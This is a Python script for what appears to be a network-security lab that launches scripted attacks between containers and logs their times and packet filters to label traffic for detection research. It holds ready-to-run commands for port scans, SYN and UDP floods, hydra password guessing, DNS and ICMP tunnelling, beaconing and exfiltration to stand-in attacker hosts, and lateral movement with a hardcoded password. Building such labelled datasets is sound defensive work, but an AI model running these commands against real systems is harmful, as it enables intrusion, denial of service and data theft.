#!/usr/bin/env python3
"""The attacks of the lab, each with a real tool and limits on count and time.   attacks.py KIND | list

Compromised containers attack from inside (docker exec), outside attackers from a separate namespace.
Every run adds one line to attacks.jsonl in the lab's state folder (attacker, target, time); labels.py converts them to labels."""
import json, os, shlex, subprocess, sys, threading, time

LAB = os.environ.get("LAB", "lazaret")
STATE = f"/run/lazaret-lab/{LAB}"
HERE = os.path.dirname(os.path.abspath(__file__))
ADDRESS = {f[1]: f[5] for f in map(str.split, open(HERE + "/topology.txt")) if f[:1] == ["box"]}
WORKERS = [f"worker-{i}" for i in range(1, 9)]

# The kind of label, the attackers (containers, or one outside address), the targets, the command, and a BPF filter that the
# attack's packets match and the offender's normal traffic does not: it determines the label's exact times.
# {A} is the offender's address, {M} its MAC address, {words} a file of N wrong passwords.
ATTACKS = {
    "port-scan-fast": dict(who=["worker-3"], dst=["10.60.3.5"], what="1000 ports of the database host in seconds",
        run="nmap -n -Pn -sS -p 1-1000 --max-rate 300 10.60.3.5", filter="host {A} and host 10.60.3.5 and tcp and not port 5432"),
    "syn-flood": dict(who=["worker-1"], dst=["10.60.1.11"], what="4000 SYNs to the web front, own address",
        run="hping3 -q -n -S -p 80 -i u1000 -c 4000 10.60.1.11", filter="host {A} and host 10.60.1.11"),
    "exfil-slow": dict(who=["scheduler-1"], dst=["203.0.113.91"], what="40 uploads of 25 kB, one every 4 to 8 s",
        run="bash -c 'RANDOM=7; for i in $(seq 40); do head -c 25000 /dev/urandom > /tmp/n; curl -ks -m 5 -o /dev/null -T /tmp/n https://203.0.113.91/n; sleep $((4 + RANDOM % 5)); done'",
        filter="host {A} and host 203.0.113.91"),
    "outside-scan": dict(label="port-scan-fast", who=["203.0.113.66"], dst=["10.60.1.11"], what="1000 ports of the web front, from outside",
        run="nmap -n -Pn -sS -p 1-1000 --max-rate 250 10.60.1.11", filter="host {A}"),
    "http-guess": dict(label="http-password-guessing", who=["203.0.113.77"], dst=["10.60.1.11"], words=300, what="300 passwords for one login",
        run="hydra -I -t 4 -l user7 -P {words} 10.60.1.11 http-post-form /api/login:user=^USER^&pass=^PASS^:denied", filter="host {A}"),
    "udp-flood": dict(who=["worker-5"], dst=["203.0.113.95"], what="4000 datagrams of 200 bytes to a host outside",
        run="hping3 -q -n --udp -p 9999 -d 200 -i u1000 -c 4000 203.0.113.95", filter="host {A} and host 203.0.113.95"),
    "dns-tunnel": dict(who=["worker-2"], dst=["10.60.1.53"], server="203.0.113.70", what="iodine through the lab's resolver, a file moved inside",
        serve="iodined -f -c -P secret -l 203.0.113.70 172.31.254.1/27 t.attacker.example",
        run="bash -c 'iodine -f -r -P secret -m 600 10.60.1.53 t.attacker.example >/tmp/iodine 2>&1 & t=$!; sleep 6; head -c 160000 /dev/urandom > /tmp/n; curl -s -m 45 --limit-rate 6k -o /dev/null -w \"%{size_upload} %{http_code}\\n\" -T /tmp/n http://172.31.254.1/n; kill $t; cat /tmp/iodine'",
        filter="host {A} and host 10.60.1.53 and udp port 53"),
    "ssh-guess": dict(label="ssh-password-guessing", who=["203.0.113.78"], dst=["10.60.1.22"], words=30, what="30 passwords for root",
        run="hydra -I -t 4 -l root -P {words} ssh://10.60.1.22", filter="host {A}"),
    "beacon": dict(who=["backup-1"], dst=["203.0.113.92"], what="28 calls home, every 10 s give or take a quarter",
        run="bash -c 'RANDOM=5; for i in $(seq 28); do curl -ks -m 5 -o /dev/null https://cdn.attacker.example/poll; sleep $((7500 + RANDOM % 5000))e-3; done'",
        filter="host {A} and host 203.0.113.92"),
    "exfil-bulk": dict(who=["app-1"], dst=["203.0.113.90"], what="12 MB in one upload",
        run="bash -c 'head -c 12000000 /dev/urandom > /tmp/n; curl -ks -m 60 --limit-rate 1500k -o /dev/null -w \"%{size_upload} %{http_code}\\n\" -T /tmp/n https://203.0.113.90/n'",
        filter="host {A} and host 203.0.113.90"),
    "db-guess": dict(label="db-password-guessing", who=["worker-6"], dst=["10.60.3.5"], words=400, what="400 passwords for the superuser",
        run="hydra -I -t 2 -l postgres -P {words} postgres://10.60.3.5/postgres", filter="host {A} and host 10.60.3.5 and tcp port 5432"),
    "icmp-tunnel": dict(who=["worker-4"], dst=["203.0.113.80"], server="203.0.113.80", what="a file moved inside echo requests",
        serve="ptunnel-ng -r203.0.113.80 -R80",
        run="bash -c 'ptunnel-ng -p203.0.113.80 -l8000 -r203.0.113.80 -R80 & t=$!; sleep 2; head -c 150000 /dev/urandom > /tmp/n; for i in 1 2 3 4; do curl -s -m 12 -o /dev/null -w \"%{size_upload} %{http_code}\\n\" -T /tmp/n http://127.0.0.1:8000/n; sleep 3; done; kill $t'",
        filter="host {A} and icmp and host 203.0.113.80"),
    "lateral-movement": dict(who=["web-2"], dst=["10.60.3.5"], what="a web front reads the customers from the database it never used",
        run="bash -c 'export PGPASSWORD=shop-secret; psql -h 10.60.3.5 -U shop shop -c \"\\d\"; for i in 0 1 2 3 4 5; do psql -h 10.60.3.5 -U shop shop -Atc \"select * from person where mod(id, 6) = $i\" | wc; sleep 2; done'",
        filter="host {A} and host 10.60.3.5"),
    "port-scan-horizontal": dict(who=["app-2"], dst=["10.60.3.0/24", "10.60.1.0/24"], what="ports 22 and 3389 of 508 addresses",
        run="nmap -n -Pn -sS -p 22,3389 --max-retries 1 --max-rate 80 10.60.3.1-254 10.60.1.1-254", filter="host {A} and (tcp port 22 or tcp port 3389)"),
    "arp-sweep": dict(who=["monitor-1"], dst=["10.60.2.0/24"], what="who has each of 254 addresses",
        run="nmap -n -sn -PR 10.60.2.1-254", filter="arp and ether src {M}"),
    "syn-flood-spoofed": dict(who=["worker-7"], dst=["10.60.1.12"], spoofed="198.18.0.0/16", what="3000 SYNs to the web front, random outside sources",
        run="python3 /lab/spoof.py 198.18.0.0/16 10.60.1.12 80 3000 600", filter="ether src {M} and src net 198.18.0.0/16"),
    "port-scan-slow": dict(who=["report-1"], dst=["10.60.3.7"], what="90 ports of the store, one every 2 s",
        run="nmap -n -Pn -sS -p 8000-8089 --scan-delay 2s --max-scan-delay 2s --max-retries 0 10.60.3.7", filter="host {A} and host 10.60.3.7 and portrange 8000-8089"),
    "syn-flood-spoofed-local": dict(label="syn-flood-spoofed", who=["bastion-1"], dst=["10.60.2.11"], spoofed="10.60.1.128/25",
        what="2000 SYNs to the application, sources from the sender's own network",
        run="python3 /lab/spoof.py 10.60.1.128/25 10.60.2.11 8000 2000 300", filter="ether src {M} and src net 10.60.1.128/25"),
    "subnet-scan": dict(who=WORKERS, dst=["10.60.2.0/24"], prefix="10.60.4.0/26", what="all eight workers look for port 445 and 3389",
        run="nmap -n -Pn -sS -p 445,3389 --max-retries 0 --max-rate 15 10.60.2.1-254", filter="src net 10.60.4.0/26 and (tcp port 445 or tcp port 3389)"),
    "subnet-flood": dict(who=WORKERS, dst=["203.0.113.95"], prefix="10.60.4.0/26", what="all eight workers flood one host outside, 600 datagrams each",
        run="hping3 -q -n --udp -p 53 -d 120 -i u12000 -c 600 203.0.113.95", filter="src net 10.60.4.0/26 and host 203.0.113.95"),
}


def mac(address):
    """Docker's rule: 02:42 and the address."""
    return "02:42:" + ":".join(f"{int(x):02x}" for x in address.split("."))


def tool(run):
    return next(t for t in ("nmap", "hping3", "hydra", "iodine", "ptunnel-ng", "psql", "curl", "spoof.py") if t in run)


def outside(*command):
    return ["nsenter", f"--net=/run/netns/{LAB}-evil", *command]


def command_for(attack, kind, who):
    address = ADDRESS.get(who, who)
    words = f"/tmp/words-{kind}.txt"
    run = attack["run"].replace("{A}", address).replace("{words}", words)
    if "words" in attack:
        text = "\n".join(f"wrong{n:04d}" for n in range(attack["words"])) + "\n"
        where = ["docker", "exec", "-i", who] if who in ADDRESS else []
        subprocess.run([*where, "sh", "-c", f"cat > {words}"], input=text, text=True, check=True)
    if who in ADDRESS:
        return ["docker", "exec", who, *shlex.split(run)]
    return outside(*shlex.split(run))


def come_from(address):
    """The address that programs in the attackers' namespace use from now on."""
    subprocess.run(outside("ip", "route", "replace", "10.60.0.0/16", "via", "172.31.255.5", "src", address), check=True)


def main(kind):
    os.environ["DOCKER_HOST"] = f"unix://{STATE}/docker.sock"
    attack = ATTACKS[kind]
    os.makedirs(f"{STATE}/attacks", exist_ok=True)
    out = open(f"{STATE}/attacks/{kind}.out", "w")
    server = None
    if attack.get("server") or attack["who"][0] not in ADDRESS:
        come_from(attack.get("server") or attack["who"][0])
    if "serve" in attack:
        server = subprocess.Popen(outside(*shlex.split(attack["serve"])), stdout=out, stderr=out)
        time.sleep(1)
    commands = [command_for(attack, kind, who) for who in attack["who"]]
    start = time.time()
    running = [subprocess.Popen(c, stdout=out, stderr=out, stdin=subprocess.DEVNULL) for c in commands]
    deadline = start + 400
    for p in running:
        try:
            p.wait(max(1, deadline - time.time()))
        except subprocess.TimeoutExpired:
            p.terminate()
    end = time.time()
    if server:
        server.terminate()
        server.wait()
    addresses = [ADDRESS.get(w, w) for w in attack["who"]]
    macs = [mac(a) for a, w in zip(addresses, attack["who"]) if w in ADDRESS]
    line = {"start": start, "end": end, "kind": attack.get("label", kind), "src": addresses, "dst": attack["dst"],
            "offender": attack["who"], "mac": macs, "tool": tool(attack["run"]), "what": attack["what"],
            "filter": attack["filter"].replace("{A}", addresses[0]).replace("{M}", macs[0] if macs else "")}
    for key in ("spoofed", "prefix"):
        if key in attack:
            line[key] = attack[key]
    with open(f"{STATE}/attacks.jsonl", "a") as f:
        f.write(json.dumps(line) + "\n")


if __name__ == "__main__":
    if len(sys.argv) != 2 or sys.argv[1] not in ATTACKS:
        print(*(f"{k:26}{v['what']}" for k, v in ATTACKS.items()), sep="\n")
        sys.exit(0 if sys.argv[1:] == ["list"] else 2)
    main(sys.argv[1])
